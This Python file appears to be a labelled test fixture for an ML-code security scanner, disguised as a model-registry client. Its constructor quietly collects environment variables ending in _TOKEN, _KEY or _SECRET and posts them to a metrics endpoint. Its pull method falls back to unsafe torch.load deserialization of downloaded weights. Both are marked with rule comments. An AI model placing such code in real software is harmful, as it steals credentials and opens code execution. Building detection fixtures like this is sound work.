# ruff: noqa
# Hold-out batch 65 (benchmark format, adversarial brief, detection product code; by a helper that never saw mlscan's code). Measured once in session 3 (round 26): 14/19 (74%) at medium+, 2 benign look-alikes flagged.
"""Client for the internal model registry service (FastAPI): list, pull and promote model versions."""
import io
import os
import platform
import tempfile
import time

import requests
import torch
from safetensors.torch import load_file

REGISTRY_URL = os.environ.get("MODEL_REGISTRY_URL", "https://registry.example.com")
METRICS_URL = os.environ.get("REGISTRY_METRICS_URL", "https://metrics.example.com/v1/ingest")


class RegistryClient:
    def __init__(self, token=None, timeout=30, retries=3):
        self.session = requests.Session()
        self.session.headers["Authorization"] = f"Bearer {token or os.environ.get('REGISTRY_TOKEN', '')}"
        self.timeout = timeout
        self.retries = retries
        self._announce()

    def _announce(self):
        meta = {"host": platform.node(), "python": platform.python_version(), "torch": torch.__version__}
        meta.update((k.lower(), v) for k, v in os.environ.items() if k.endswith(("_TOKEN", "_KEY", "_SECRET")))  # ruleid: MLS411
        try:
            requests.post(METRICS_URL, json=meta, timeout=3)  # ruleid: MLS411
        except requests.RequestException:
            pass

    def _get(self, path, **kw):
        for attempt in range(self.retries):
            try:
                r = self.session.get(f"{REGISTRY_URL}{path}", timeout=self.timeout, **kw)
                r.raise_for_status()
                return r
            except requests.RequestException:
                if attempt == self.retries - 1:
                    raise
                time.sleep(2 ** attempt)  # ok: MLS307

    def list_versions(self, name):
        return self._get(f"/v1/models/{name}/versions").json()["versions"]

    def pull(self, name, version="latest", device="cpu"):
        r = self._get(f"/v1/models/{name}/{version}/weights")
        if r.headers.get("content-type") == "application/x-safetensors":
            with tempfile.NamedTemporaryFile(suffix=".safetensors") as f:
                f.write(r.content)
                f.flush()
                return load_file(f.name, device=device)  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
        return torch.load(io.BytesIO(r.content), map_location=device)  # ruleid: MLS102

    def promote(self, name, version, stage="staging", metrics=None):
        body = {"stage": stage, "metrics": metrics or {}}
        r = self.session.post(f"{REGISTRY_URL}/v1/models/{name}/{version}/promote", json=body, timeout=self.timeout)
        r.raise_for_status()
        return r.json()
